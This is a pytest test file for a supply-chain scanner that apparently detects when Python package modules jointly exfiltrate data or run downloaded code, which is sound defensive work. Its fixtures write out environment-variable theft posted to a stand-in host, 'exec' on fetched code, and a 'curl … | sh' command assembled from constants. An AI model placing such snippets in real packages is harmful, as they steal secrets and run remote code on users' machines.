"""Modules of one package seen together: what one reads and another sends, what one decodes and another runs."""

from __future__ import annotations

from collections.abc import Iterable

import pytest

from mlsupply.evidence.facets import CodeFact
from mlsupply.evidence.linking import linked
from mlsupply.evidence.module_facts import ModuleFacts, Neighbours, dotted_name
from mlsupply.evidence.python import analyse

READS = "import os\ndef gather():\n    return dict(os.environ)\n"
SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
GETS = "import urllib.request\ndef get(url):\n    return urllib.request.urlopen(url).read()\n"


def facts(files: dict[str, str], parsed: Iterable[str] = ()) -> list[CodeFact]:
    """Of a package `demo`; parsed: the files the first look chooses, all where none is named."""
    sources = {f"demo/{name}.py": text.encode() for name, text in files.items()}
    chosen = [f"demo/{name}.py" for name in parsed] or list(sources)
    spare = {dotted_name(path)[0]: path for path in sources if path not in chosen}

    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
        return [analyse.module(path, sources[path], "", known) for path, known in todo]

    first = [analyse.module(path, sources[path]) for path in chosen]
    return [fact for module in linked(first, spare, sources, look) for fact, _ in module.facts]


def sent(found: list[CodeFact]) -> list[tuple[str, str, str]]:
    return [(fact.source, fact.sink, fact.destination) for fact in found if fact.behaviour == "sends"]


STOLEN = [("environment", "requests.post", "fixed")]


@pytest.mark.parametrize(
    "start",
    [
        "from .read import gather\nfrom .send import push\npush(gather())\n",
        "from . import read, send\nvalues = read.gather()\nsend.push({'v': values})\n",
        "from demo.read import gather as g\nfrom demo.send import push as p\ndef go():\n    p(g())\ngo()\n",
    ],
    ids=["names", "modules", "aliases"],
)
def test_what_one_module_reads_and_another_sends(start: str) -> None:
    assert sent(facts({"__init__": start, "read": READS, "send": SENDS})) == STOLEN


def test_a_module_that_passes_all_byte_filters_is_read_when_a_neighbour_sends_for_it() -> None:
    start = "from .read import gather\nfrom .send import push\npush(gather())\n"
    assert sent(facts({"__init__": start, "read": READS, "send": SENDS}, parsed=["send"])) == STOLEN


def test_a_sender_is_known_by_the_name_it_is_exported_under() -> None:
    start = "from .deep.send import push\n"
    late = "from demo.read import gather\nfrom demo import push as p\ndef go():\n    p(gather())\ngo()\n"
    files = {"__init__": start, "read": READS, "deep/send": SENDS, "late": late}
    assert sent(facts(files, parsed=["__init__", "deep/send"])) == STOLEN


def test_a_method_that_sends_is_found_on_an_object_of_its_class() -> None:
    sender = (
        f"import requests\nclass Post:\n    def push(self, data):\n{SENDS.splitlines()[2].replace('    ', '        ')}\n"
    )
    start = "import os\nfrom .send import Post\nout = Post()\nout.push(dict(os.environ))\n"
    assert sent(facts({"__init__": start, "send": sender}, parsed=["send"])) == STOLEN


@pytest.mark.parametrize(
    "text",
    [
        "def push(send): ...\nclass push_send: ...\n",
        "'the send module: push(data)'\n",
        "from .other import push\nfrom .send import Error\n",
        "from .model import Push\nx: Push\n",
    ],
)
def test_a_file_that_only_has_words_in_common_is_not_looked_at_again(text: str) -> None:
    looks: list[tuple[str, Neighbours | None]] = []
    files = {
        "send": SENDS,
        "other": text,
        "model": "class Push: ...\n",
        "run": "import os\nfrom .model import Push\nos.system(Push)",
    }
    sources = {f"demo/{name}.py": body.encode() for name, body in files.items()}

    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
        looks.extend(todo)
        return []

    spare = {"demo.other": "demo/other.py", "demo.model": "demo/model.py"}
    first = [analyse.module(path, text) for path, text in sources.items() if path not in spare.values()]
    linked(first, spare, sources, look)
    assert looks == []


def test_a_name_that_is_exported_again_leads_to_the_same_function() -> None:
    files = {
        "__init__": "from .read import gather\n",
        "read": READS,
        "send": SENDS,
        "late": "from demo import gather\nfrom demo.send import push\npush(gather())\n",
    }
    assert sent(facts(files)) == STOLEN


def test_what_is_fetched_by_one_and_executed_by_another() -> None:
    start = "from .net import get\nexec(get('https://x.example/s.py'))\n"
    found = facts({"__init__": start, "net": GETS})
    assert "runs-downloaded" in {fact.behaviour for fact in found}


def test_a_command_put_together_from_constants_of_another_module() -> None:
    start = "import os\nfrom .words import TOOL, REST\nos.system(TOOL + ' ' + REST)\n"
    found = facts({"__init__": start, "words": "TOOL = 'curl -s'\nREST = 'https://x.example/i | sh'\n"}, parsed=["__init__"])
    assert "runs-downloaded" in {fact.behaviour for fact in found}


def test_a_file_whose_address_the_caller_gives_is_no_download_to_run() -> None:
    """What a configured address gives is the user's business, as it is inside one module."""
    start = "from .net import get\ndef load(address):\n    exec(get(address))\n"
    found = facts({"__init__": start, "net": GETS})
    assert "runs-downloaded" not in {fact.behaviour for fact in found}


def test_an_honest_client_needs_no_second_look() -> None:
    looks = []
    files = {
        "demo/__init__.py": b"from .client import Client\nfrom .config import URL\nClient(URL).post({'a': 1})\n",
        "demo/config.py": b"URL = 'https://api.example/v1'\n",
        "demo/client.py": b"import requests\nclass Client:\n    def __init__(self, url):\n        self.url = url\n"
        b"    def post(self, data):\n        return requests.post(self.url, json=data).json()\n",
    }

    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
        todo = list(todo)
        looks.extend(todo)
        return [analyse.module(path, files[path], "", known) for path, known in todo]

    linked([analyse.module(path, text) for path, text in files.items()], {}, files, look)
    assert looks == []
